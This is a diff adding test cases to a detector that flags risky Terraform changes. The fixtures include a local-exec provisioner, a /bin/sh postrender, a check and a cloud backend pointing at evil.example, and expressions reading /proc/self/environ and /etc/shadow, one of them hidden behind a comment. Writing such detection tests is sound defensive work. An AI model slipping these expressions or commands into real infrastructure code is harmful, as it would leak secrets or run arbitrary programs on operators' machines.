@@ -31,6 +31,67 @@ judges('provisioner-added', {
   accepts: { 'another label': withVolume({ label: 'other' }), nothing: same },
 });
 
+judges('provisioner-added', {
+  flags: {
+    'a program that manifests are piped through': [
+      withVolume({ postrender: { binary_path: '/bin/sh' } }),
+      { object: VOLUME, path: 'postrender', after: '{"binary_path":"/bin/sh"}' },
+    ],
+    'a command when a resource leaves the state': [
+      changed({ removed: [{ from: 'linode_volume.old', provisioner: { 'local-exec': { command: 'env' } } }] }),
+      { object: 'stack: linode_volume.old', path: 'provisioner' },
+    ],
+  },
+  accepts: { 'a resource that leaves it': changed({ removed: { from: 'linode_volume.old' } }) },
+});
+
+judges('section-added', {
+  flags: {
+    'an object that is imported': [
+      changed({ import: [{ to: 'linode_volume.x', id: '7' }] }),
+      { object: 'stack: import', path: '', after: '[{"id":"7","to":"linode_volume.x"}]' },
+    ],
+    'a check, which reads data of its own': [
+      changed({ check: { x: { data: { http: { x: { url: 'https://evil.example' } } } } } }),
+      { object: 'stack: check', path: '' },
+    ],
+    'a program whose output is in no state': [
+      changed({ ephemeral: { external: { x: { program: ['sh'] } } } }),
+      { object: 'stack: ephemeral', path: '' },
+    ],
+    'another place of the state': [
+      terraform({ cloud: { hostname: 'evil.example' } }),
+      { object: 'stack: terraform.cloud', path: '' },
+    ],
+  },
+  accepts: { 'the sections that there are': changed({ locals: { x: 1 }, output: { x: { value: 1 } } }), nothing: same },
+});
+
+const reading = (call: string) => `x-$\{${call}}`;
+
+judges('expression-reads-machine', {
+  flags: {
+    'a file in an output': [
+      changed({ output: { x: { value: reading('file("/proc/self/environ")') } } }),
+      { object: 'stack: output.x', path: '', after: reading('file("/proc/self/environ")') },
+    ],
+    'behind a comment': [
+      changed({ locals: { x: reading('filebase64/**/("/etc/shadow")') } }),
+      { object: 'stack: locals.x', path: '' },
+    ],
+    'in a key': [withVolume({ tags: { [reading('fileexists("/etc/shadow")')]: 'x' } }), { object: VOLUME, path: '' }],
+    'in a data source, in a directive': [
+      changed({ data: { linode_x: { x: { id: '%{ if templatefile("x", {}) == "" }%{ endif }' } } } }),
+      { object: 'stack: data.linode_x.x', path: '' },
+    ],
+  },
+  accepts: {
+    'a text about a file': withVolume({ label: 'file' }),
+    'an attribute': withVolume({ label: reading('var.profile') }),
+    nothing: same,
+  },
+});
+
 judges('data-source-executes', {
   flags: {
     'a program': [
